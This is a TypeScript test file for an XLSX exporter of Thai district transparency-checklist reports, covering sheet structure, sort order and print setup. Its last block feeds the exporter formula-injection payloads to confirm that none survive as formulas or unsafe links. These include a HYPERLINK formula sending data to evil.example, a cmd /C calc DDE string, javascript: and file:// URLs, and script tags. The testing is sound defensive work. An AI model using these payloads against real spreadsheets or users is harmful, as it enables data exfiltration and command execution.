import xlsx from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { loadChecklist } from '../../src/checklist/load.js';
import type { Report } from '../../src/model/report.js';
import { reportXlsx } from '../../src/report/xlsx/index.js';
import { finding, item, link, report } from './sample.js';

const URL_ = 'https://webportal.bangkok.go.th/public/user_files_editor/59/O20%20summary.pdf';
const evidence = (change = {}): Report['items'][number]['requirements'][number]['findings'][number]['evidence'][number] => ({ url: URL_, locator: 'page 2, row 7', quote: 'ราคาที่เสนอ', sha256: null, ...change });

const sample = report([
  { ...item('O6', 'remark', [finding({ verdict: 'remark' })]), links: [link({ outcome: 'ok', httpStatus: 200, verdict: 'pass', document: { kind: 'pdf', mediaType: 'application/pdf', readability: 'R2', pages: 3, traits: [], sha256: 'a', bytes: 12_345 } })] },
  item('O7', 'pass', [finding({ verdict: 'pass', code: 'requirement-met', messageTh: 'พบข่าวของปีงบประมาณ', suggestionTh: undefined })]),
  { ...item('O20', 'fail', [finding({ evidence: [evidence(), evidence({ locator: 'page 3, row 1' }), evidence({ url: `${URL_}?2` })] })]), links: [link({ url: URL_, requestedUrl: URL_, outcome: 'not-found', httpStatus: 404, verdict: 'fail', findings: [finding({ code: 'link-outcome', messageTh: 'เปิดลิงก์ไม่ได้' })] })] },
], {
  lint: [{ code: 'D1-duplicate-link', severity: 'H', params: { item: 'O8', url: URL_ }, messageTh: 'ลิงก์ซ้ำ', messageEn: 'twice', evidence: [] }],
});

/** The sheets as SheetJS, which did not write them, reads them. */
async function sheets(one: Report, lang: 'th' | 'en' = 'th'): Promise<Record<string, string[][]>> {
  const book = xlsx.read(await reportXlsx(one, { lang }));
  return Object.fromEntries(book.SheetNames.map((name) => [name, xlsx.utils.sheet_to_json<string[]>(book.Sheets[name] ?? {}, { header: 1, raw: false, defval: '' })]));
}

describe('the workbook of a report', () => {
  it('has a sheet for the items, for the findings and for the links', async () => {
    expect(await sheets(sample)).toMatchSnapshot();
    expect(Object.keys(await sheets(sample, 'en'))).toEqual(['Items', 'Findings', 'Links']);
  });

  it('puts what costs points first and what passed last', async () => {
    const rows = (await sheets(sample))['สิ่งที่พบ']?.slice(4).map((row) => `${row[1]} ${row[4]}`);
    expect(rows).toEqual(['O20 ✗ ไม่ผ่าน', 'O20 ✗ ไม่ผ่าน', 'O6 ! ผ่าน (มีข้อสังเกต)', 'O8 ✗ ควรแก้ก่อนส่ง', 'O7 ✓ ผ่าน']);
  });

  it('names the section that keeps an item where the checklist is at hand', async () => {
    const loaded = loadChecklist('bma-2566');
    if (!loaded.ok) throw new Error(loaded.message.en);
    const book = xlsx.read(await reportXlsx(sample, { lang: 'th', checklist: loaded.checklist }));
    expect(JSON.stringify(xlsx.utils.sheet_to_json(book.Sheets['รายข้อ'] ?? {}, { header: 1 }))).toContain('ฝ่ายการคลัง');
  });

  it('is filtered, frozen and printed on landscape A4 with its heads repeated', async () => {
    const files = unzipSync(await reportXlsx(sample, { lang: 'th' }));
    for (const number of [1, 2, 3]) {
      const sheet = strFromU8(files[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array());
      expect(sheet).toMatch(/<pane [^>]*state="frozen"/);
      expect(sheet).toContain('<autoFilter ref="A');
      expect(sheet).toMatch(/<pageSetup [^>]*paperSize="9"[^>]*orientation="landscape"|<pageSetup [^>]*orientation="landscape"[^>]*paperSize="9"/);
      expect(sheet).toContain('fitToWidth="1"');
      expect(sheet).toContain('<conditionalFormatting');
    }
    expect(strFromU8(files['xl/workbook.xml'] ?? new Uint8Array())).toMatch(/Print_Titles" localSheetId="0">'รายข้อ'!\$\d+:\$\d+</);
  });

  it('is the same file for the same report', async () => {
    expect(await reportXlsx(sample, { lang: 'th' })).toEqual(await reportXlsx(sample, { lang: 'th' }));
  });
});

describe('a report whose texts attack', () => {
  const poison = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '-2+3', '\t=1+1', '\r\n=1+1', '</t></si><c><f>1+1</f></c>', '\u202e=1', 'a\u0000b\ud800', ']]>&lt;'];
  const attacked = report(
    poison.map((text, index) => ({
      ...item(`O${index + 1}`, 'fail', [finding({ messageTh: text, suggestionTh: text, code: text, evidence: [evidence({ url: `javascript:alert(${index})`, locator: text, quote: text })] })]),
      titleTh: text,
      links: [link({ url: text, requestedUrl: 'file:///c:/windows/system32/calc.exe' }), link({ url: 'https://example.org/"><script>', requestedUrl: 'https://example.org/"><script>' })],
    })),
    { district: { slug: 'x', code: '1', nameTh: '=1+1', nameEn: '=1+1' }, checklist: { id: '=1+1&G', version: '1' } },
  );

  it('has no formula, no cell that could become one, and no link but http and https', async () => {
    const bytes = await reportXlsx(attacked, { lang: 'th' });
    const book = xlsx.read(bytes, { cellFormula: true });
    let cells = 0;
    for (const sheet of Object.values(book.Sheets)) {
      for (const [place, cell] of Object.entries(sheet) as [string, xlsx.CellObject][]) {
        if (place.startsWith('!')) continue;
        cells += 1;
        expect(cell.f, place).toBeUndefined();
        if (cell.t === 's') expect(String(cell.v), place).not.toMatch(/^[\s\u200b-\u202e]*[=+@\t\r]/);
        if (cell.l?.Target !== undefined) expect(cell.l.Target, place).toMatch(/^https?:\/\//);
      }
    }
    expect(cells).toBeGreaterThan(200);
    const files = unzipSync(bytes);
    for (const [name, content] of Object.entries(files)) {
      expect(strFromU8(content), name).not.toMatch(/<f[ >]|javascript:|TargetMode="External"[^>]*file:/);
      expect(strFromU8(content), name).not.toContain('<script');
    }
  });
});
